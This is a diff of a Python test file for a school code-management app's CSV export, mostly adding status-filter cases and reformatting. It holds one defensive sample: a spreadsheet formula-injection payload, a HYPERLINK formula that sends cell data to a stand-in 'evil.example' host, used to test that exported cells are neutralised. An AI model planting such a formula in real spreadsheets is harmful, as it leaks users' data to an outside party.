@@ -1,5 +1,6 @@
 """Export CSV: exactly the rows the filtered table shows, all pages, with a header,
 ISO 8601 dates and cells a spreadsheet cannot run as formulas."""
+
 import csv
 import io
 from datetime import date, datetime, timedelta
@@ -9,13 +10,15 @@ from sqlalchemy import select
 
 from codes.access import Scope
 from codes.bulk import operations
-from codes.bulk.operations import EXPORT_HEADER, BatchInput, csv_chunks, generate_batch, inert
+from codes.bulk.operations import EXPORT_HEADER, BatchInput, generate_batch
+from codes.csvfile import chunks as csv_chunks
+from codes.csvfile import inert
 from codes.extensions import db
 from codes.manage.operations import deactivate
 from codes.models import Code, utcnow
 from codes.redeem.operations import redeem
 from codes.timeutil import to_local, to_utc
-from conftest import Factory, soup
+from conftest import Factory, batch_of, soup
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your grade")'
 
@@ -32,14 +35,6 @@ def school(make):
 def admin(client, school):
     client.login(school[0].admin)
     return client
-
-
-def batch_of(org, n, prefix="", **fields):
-    fields.setdefault("classroom_ids", [org.classrooms[0].id])
-    data = BatchInput(count=n, prefix=prefix, **fields)
-    batch = generate_batch(org.admin, Scope(org.admin, org), data)
-    db.session.commit()
-    return batch
 
 
 def download(client, org, **args):
@@ -84,9 +79,19 @@ def many(school, make):
     return big, small
 
 
-@pytest.mark.parametrize("args", [
-    {}, {"batch": "big"}, {"batch": "small"}, {"q": "big"}, {"batch": "big", "q": "q"}, {"q": "nothing"},
-])
+@pytest.mark.parametrize(
+    "args",
+    [
+        {},
+        {"status": "all"},
+        {"status": "deactivated"},
+        {"batch": "big"},
+        {"batch": "small", "status": "all"},
+        {"q": "big"},
+        {"batch": "big", "q": "q"},
+        {"q": "nothing"},
+    ],
+)
 def test_export_has_exactly_the_rows_of_the_filtered_table(admin, school, many, args):
     org = school[0]
     big, small = many
@@ -95,19 +100,28 @@ def test_export_has_exactly_the_rows_of_the_filtered_table(admin, school, many, 
     shown = table(admin, org, **args)
     exported = download(admin, org, **args)
     assert [as_table_row(row) for row in exported] == shown
-    if args == {}:
+    if args == {"status": "all"}:
         assert len(exported) == 130 + 7 + 1 + 1, "both batches, the custom code and the join code"
+    if args == {}:
+        assert len(exported) == 130 + 7 + 1 + 1 - 1, "live by default: all but the deactivated one"
+    if args == {"status": "deactivated"}:
+        assert [row["Status"] for row in exported] == ["Deactivated"]
 
 
 def test_values_and_iso_dates(admin, school, many):
     org, room, algebra = school
     big, small = many
-    rows = {row["Code"]: row for row in download(admin, org)}
+    rows = {row["Code"]: row for row in download(admin, org, status="all")}
     code = db.session.scalar(select(Code).where(Code.batch_id == big.id).order_by(Code.id.desc()))
     row = rows[code.text]
     assert row["Course / classroom"] == "Room 9A, Algebra"
-    assert (row["Uses"], row["Max uses"], row["Status"], row["Role"], row["Batch"]) == \
-        ("0", "3", "Active", "student", str(big.id))
+    assert (row["Uses"], row["Max uses"], row["Status"], row["Role"], row["Batch"]) == (
+        "0",
+        "3",
+        "Active",
+        "student",
+        str(big.id),
+    )
     expires = datetime.fromisoformat(row["Expires"])
     assert expires.utcoffset() == timedelta(hours=-5)
     assert expires == to_local(org, code.valid_until).replace(microsecond=0)
@@ -154,8 +168,9 @@ def test_redeemed_uses_and_used_status_are_exported(admin, school, make):
     code = db.session.scalar(select(Code).where(Code.batch_id == batch.id).order_by(Code.id))
     redeem(make.user("Sam"), code.text)
     db.session.commit()
-    rows = {row["Code"]: row for row in download(admin, org, batch=batch.id)}
+    rows = {row["Code"]: row for row in download(admin, org, batch=batch.id, status="used")}
     assert (rows[code.text]["Uses"], rows[code.text]["Status"]) == ("1", "Used")
+    assert len(rows) == 1, "the other code of the batch is live, not used up"
 
 
 def test_rows_in_many_chunks_keep_their_targets_on_both_databases(any_db_app, monkeypatch):
@@ -166,14 +181,14 @@ def test_rows_in_many_chunks_keep_their_targets_on_both_databases(any_db_app, mo
     algebra, biology = make.course(org, "Algebra"), make.course(org, "Biology")
     room = make.classroom(org, "Room 9A")
     scope = Scope(org.admin, org)
-    both = generate_batch(org.admin, scope, BatchInput(count=5, classroom_ids=[room.id],
-                                                       course_ids=[biology.id, algebra.id]))
+    both = generate_batch(
+        org.admin, scope, BatchInput(count=5, classroom_ids=[room.id], course_ids=[biology.id, algebra.id])
+    )
     one = generate_batch(org.admin, scope, BatchInput(count=6, course_ids=[biology.id]))
     db.session.commit()
     rows = list(operations.export_rows(scope, operations.CodeFilter()))
     by_batch = {}
     for row in rows:
         by_batch.setdefault(row[7], set()).add(row[1])
-    assert by_batch == {one.id: {"Biology"}, both.id: {"Room 9A, Algebra, Biology"},
-                        "": {"Room 9A"}}
+    assert by_batch == {one.id: {"Biology"}, both.id: {"Room 9A, Algebra, Biology"}, "": {"Room 9A"}}
     assert len(rows) == 5 + 6 + 1
